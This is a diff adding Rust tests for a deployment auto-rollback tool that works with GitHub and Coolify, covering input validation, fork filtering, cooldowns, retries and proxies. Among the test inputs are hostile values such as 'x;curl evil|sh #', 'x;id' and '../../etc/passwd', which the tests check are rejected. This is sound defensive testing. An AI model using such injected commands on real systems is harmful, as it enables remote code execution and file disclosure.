@@ -347,6 +347,9 @@ fn bad_inputs_exit_2_with_one_line() {
         (rollback(&w).input("cooldown", "soon"), "cooldown"),
         (rollback(&w).input("github-token", ""), "github-token"),
         (rollback(&w).input("dry-run", "maybe"), "dry-run"),
+        (rollback(&w).input("timeout", "0"), "timeout"),
+        (rollback(&w).input("workflow", "../x.yml"), "workflow"),
+        (rollback(&w).input("to", "x;id"), "`to`"),
     ];
     for (run, needle) in cases {
         let run = run.run();
@@ -355,4 +358,343 @@ fn bad_inputs_exit_2_with_one_line() {
         run.assert_one_error_line();
     }
     assert!(w.coolify.requests().is_empty());
+}
+
+// ---- Rollback safety: everything from GitHub and Coolify is untrusted ----
+
+fn patched_tags(w: &World) -> Vec<String> {
+    w.coolify
+        .requests()
+        .iter()
+        .filter(|r| r.method == "PATCH")
+        .map(|r| r.body.as_ref().map(ToString::to_string).unwrap_or_default())
+        .collect()
+}
+
+#[test]
+fn hostile_head_shas_are_never_candidates() {
+    let w = world();
+    for hostile in ["x;curl evil|sh #", "../../etc/passwd", ""] {
+        w.github.add_run("deploy.yml", hostile, "main", "success");
+    }
+    let run = rollback(&w).run();
+    run.assert_exit(0);
+    assert_eq!(run.output("to"), GOOD);
+    assert_eq!(w.coolify.running_tag(WEB), Some(tag(GOOD)));
+    let patched = patched_tags(&w);
+    assert_eq!(patched.len(), 1, "{patched:?}");
+    assert!(patched[0].contains(&tag(GOOD)), "{patched:?}");
+    let records = rollback_records(&w);
+    assert_eq!(records.len(), 1);
+    assert_eq!(records[0].0, GOOD);
+    let report = run.report();
+    assert_eq!(report["not_candidates_total"], 3, "{report}");
+    assert!(
+        report["not_candidates"][0]
+            .as_str()
+            .unwrap()
+            .contains("not a commit SHA"),
+        "{report}"
+    );
+}
+
+#[test]
+fn only_runs_that_deployed_this_repositorys_branch_are_candidates() {
+    let w = world();
+    let fork = "5555555555555555555555555555555555555555";
+    let pr = "6666666666666666666666666666666666666666";
+    let other_branch = "7777777777777777777777777777777777777777";
+    // A fork's pull request from its own branch called `main`, and a pull_request run here.
+    w.github
+        .add_run_with(
+            "deploy.yml",
+            fork,
+            "main",
+            "success",
+            "pull_request",
+            "mallory/shop",
+        )
+        .add_run_with(
+            "deploy.yml",
+            fork,
+            "main",
+            "success",
+            "push",
+            "mallory/shop",
+        )
+        .add_run_with(
+            "deploy.yml",
+            pr,
+            "main",
+            "success",
+            "pull_request_target",
+            github::REPOSITORY,
+        )
+        .add_run_with(
+            "deploy.yml",
+            pr,
+            "main",
+            "success",
+            "schedule",
+            github::REPOSITORY,
+        );
+    let run = rollback(&w).run();
+    run.assert_exit(0);
+    assert_eq!(run.output("to"), GOOD);
+    assert_eq!(run.report()["not_candidates_total"], 4);
+    // workflow_dispatch on this repository's branch counts.
+    let w = world();
+    w.github.add_run_with(
+        "deploy.yml",
+        other_branch,
+        "main",
+        "success",
+        "workflow_dispatch",
+        github::REPOSITORY,
+    );
+    w.coolify.unhealthy_tag(&tag(GOOD));
+    let run = rollback(&w).input("dry-run", "true").run();
+    run.assert_exit(0);
+    assert_eq!(run.output("to"), other_branch);
+}
+
+#[test]
+fn an_unmappable_running_version_stops_deploys_nothing_and_alerts() {
+    for running in ["latest", ""] {
+        let w = world();
+        w.coolify.add_app(WEB, "web", "ghcr.io/acme/web", running);
+        w.coolify.unhealthy_tag(running).unhealthy_tag("latest");
+        let run = rollback(&w).run();
+        run.assert_exit(1);
+        assert_eq!(
+            run.output("reason"),
+            "unknown-running-version",
+            "{running:?}"
+        );
+        assert_eq!(deploys(&w), 0);
+        assert!(patched_tags(&w).is_empty());
+        assert!(rollback_records(&w).is_empty());
+        assert!(run.stdout.contains("image-tag-template"), "{}", run.stdout);
+        assert!(
+            slack_texts(&w).contains("could not be rolled back"),
+            "{}",
+            slack_texts(&w)
+        );
+    }
+}
+
+#[test]
+fn manual_to_takes_the_image_tag_coolify_deploy_reports() {
+    // deploy.yml passes `previous-image-tags` (e.g. main-1111111) as `to`.
+    let w = world();
+    let run = rollback(&w).input("to", &tag(OLD)).run();
+    run.assert_exit(0);
+    assert_eq!(run.output("to"), &OLD[..7]);
+    assert_eq!(w.coolify.running_tag(WEB), Some(tag(OLD)));
+    assert_eq!(rollback_records(&w)[0].0, &OLD[..7]);
+}
+
+#[test]
+fn a_manual_to_records_the_running_tag_as_from() {
+    let w = world();
+    w.coolify.add_app(WEB, "web", "ghcr.io/acme/web", "latest");
+    let run = rollback(&w).input("to", OLD).run();
+    run.assert_exit(0);
+    assert_eq!(run.output("from"), "latest");
+    let records = rollback_records(&w);
+    assert_eq!(records[0].1["from_tag"], "latest");
+}
+
+#[test]
+fn the_cooldown_fails_closed_on_skewed_and_odd_timestamps() {
+    let recent = github::timestamp(Duration::from_secs(60));
+    for created_at in [
+        "2999-01-01T00:00:00Z".to_owned(),
+        String::new(),
+        "2026-11-23T08:00:00+0000".to_owned(),
+        recent.replace('Z', "+00:00"),
+        recent,
+    ] {
+        let w = world();
+        w.github.add_deployment_at(
+            GOOD,
+            "production",
+            json!({"kind": "rollback", "from_sha": OLD, "to_sha": GOOD}),
+            "success",
+            &created_at,
+        );
+        let run = rollback(&w).run();
+        run.assert_exit(1);
+        assert_eq!(run.output("reason"), "cooldown", "{created_at:?}");
+        assert_eq!(deploys(&w), 0, "{created_at:?}");
+    }
+}
+
+#[test]
+fn github_failing_after_the_verdict_still_writes_outputs_and_alerts() {
+    let w = world();
+    let github = GitHub::start().unwrap();
+    github.add_run("deploy.yml", GOOD, "main", "success");
+    for _ in 0..130 {
+        github.add_run("deploy.yml", BAD, "main", "success");
+    }
+    github.fail_page("/runs", 2, 500);
+    let run = rollback(&w).env("GITHUB_API_URL", &github.api_url()).run();
+    run.assert_exit(3);
+    run.assert_one_error_line();
+    assert_eq!(run.output("healthy-before"), "false");
+    assert_eq!(run.output("reason"), "error");
+    assert_eq!(run.output("rolled-back"), "false");
+    assert!(run.summary.contains("auto-rollback"), "{}", run.summary);
+    assert_eq!(deploys(&w), 0);
+    assert!(
+        slack_texts(&w).contains("could not be rolled back"),
+        "{}",
+        slack_texts(&w)
+    );
+}
+
+#[test]
+fn coolify_down_after_the_verdict_still_writes_outputs_and_alerts() {
+    let w = world();
+    w.coolify.outage(true);
+    let run = rollback(&w).run();
+    run.assert_exit(3);
+    run.assert_one_error_line();
+    assert_eq!(run.output("healthy-before"), "false");
+    assert_eq!(run.output("reason"), "error");
+    assert!(!run.summary.is_empty());
+    assert!(
+        slack_texts(&w).contains("could not be rolled back"),
+        "{}",
+        slack_texts(&w)
+    );
+}
+
+#[test]
+fn a_rate_limit_is_reported_with_its_reset_time() {
+    for status in [403, 429] {
+        let w = world();
+        w.github.rate_limited(status, 1_795_420_800);
+        let run = rollback(&w).run();
+        run.assert_exit(3);
+        assert!(run.stderr.contains("rate limit"), "{}", run.stderr);
+        assert!(
+            run.stderr.contains("resets at 2026-11-23T08:00:00Z"),
+            "{}",
+            run.stderr
+        );
+        assert!(!run.stderr.contains("lacks a permission"), "{}", run.stderr);
+        assert_eq!(deploys(&w), 0);
+    }
+}
+
+#[test]
+fn to_is_validated_before_any_network_call() {
+    let w = world();
+    w.coolify.outage(true);
+    for bad in ["x;id", "../../etc/passwd", "main-xyz", "latest", "111111"] {
+        let run = rollback(&w).input("to", bad).run();
+        run.assert_exit(2);
+        run.assert_one_error_line();
+        assert!(run.stderr.contains("`to`"), "{}", run.stderr);
+    }
+    assert!(w.coolify.requests().is_empty());
+    assert!(w.github.calls().is_empty());
+}
+
+#[test]
+fn the_overall_timeout_bounds_a_trickling_github() {
+    let w = world();
+    w.github.trickle(Duration::from_millis(500));
+    let run = rollback(&w)
+        .input("timeout", "3s")
+        .limit(Duration::from_secs(40))
+        .run();
+    run.assert_exit(1);
+    assert_eq!(run.output("reason"), "timeout");
+    assert_eq!(run.output("healthy-before"), "false");
+    assert!(
+        run.stdout.contains("reading GitHub history"),
+        "{}",
+        run.stdout
+    );
+    assert_eq!(deploys(&w), 0);
+    assert!(
+        slack_texts(&w).contains("could not be rolled back"),
+        "{}",
+        slack_texts(&w)
+    );
+}
+
+#[test]
+fn the_deployment_creating_post_is_sent_once() {
+    let w = world();
+    w.github.fail("POST", "/deployments", 502, 1);
+    let run = rollback(&w).run();
+    run.assert_exit(3);
+    let posts = w
+        .github
+        .calls()
+        .iter()
+        .filter(|c| c.method == "POST" && c.path.ends_with("/deployments"))
+        .count();
+    assert_eq!(
+        posts, 1,
+        "a 502 on the POST that creates a record is not retried"
+    );
+    assert_eq!(run.output("reason"), "error");
+    assert_eq!(deploys(&w), 0, "no rollback without its record");
+}
+
+#[test]
+fn github_reads_are_retried_by_our_policy() {
+    let w = world();
+    w.github.fail("GET", "/runs", 502, 1);
+    let run = rollback(&w).run();
+    run.assert_exit(0);
+    assert_eq!(run.output("to"), GOOD);
+    let reads = w
+        .github
+        .calls()
+        .iter()
+        .filter(|c| c.path.ends_with("/runs"))
+        .count();
+    assert_eq!(reads, 2, "the 502 was retried once");
+}
+
+#[test]
+fn github_calls_go_through_the_proxy_from_the_environment() {
+    let w = world();
+    // `github.invalid` never resolves: only a proxy can reach it. NO_PROXY keeps Coolify
+    // and the app on loopback direct. The GitHub stand-in serves absolute-form requests.
+    let run = rollback(&w)
+        .env("GITHUB_API_URL", "http://github.invalid")
+        .env("HTTP_PROXY", &w.github.api_url())
+        .env("NO_PROXY", "127.0.0.1,localhost")
+        .run();
+    run.assert_exit(0);
+    assert_eq!(run.output("to"), GOOD);
+    assert!(!w.github.calls().is_empty());
+}
+
+#[test]
+fn https_github_calls_tunnel_through_https_proxy() {
+    let w = world();
+    let proxy = sandbox::proxy::ProxyRecorder::start().unwrap();
+    let run = rollback(&w)
+        .env("GITHUB_API_URL", "https://github.invalid")
+        .env("HTTPS_PROXY", &proxy.url())
+        .env("NO_PROXY", "127.0.0.1,localhost")
+        .run();
+    // The recorder refuses the tunnel: what matters is that it was asked for one.
+    run.assert_exit(3);
+    assert!(
+        proxy
+            .lines()
+            .iter()
+            .any(|l| l.starts_with("CONNECT github.invalid:443")),
+        "{:?}",
+        proxy.lines()
+    );
 }
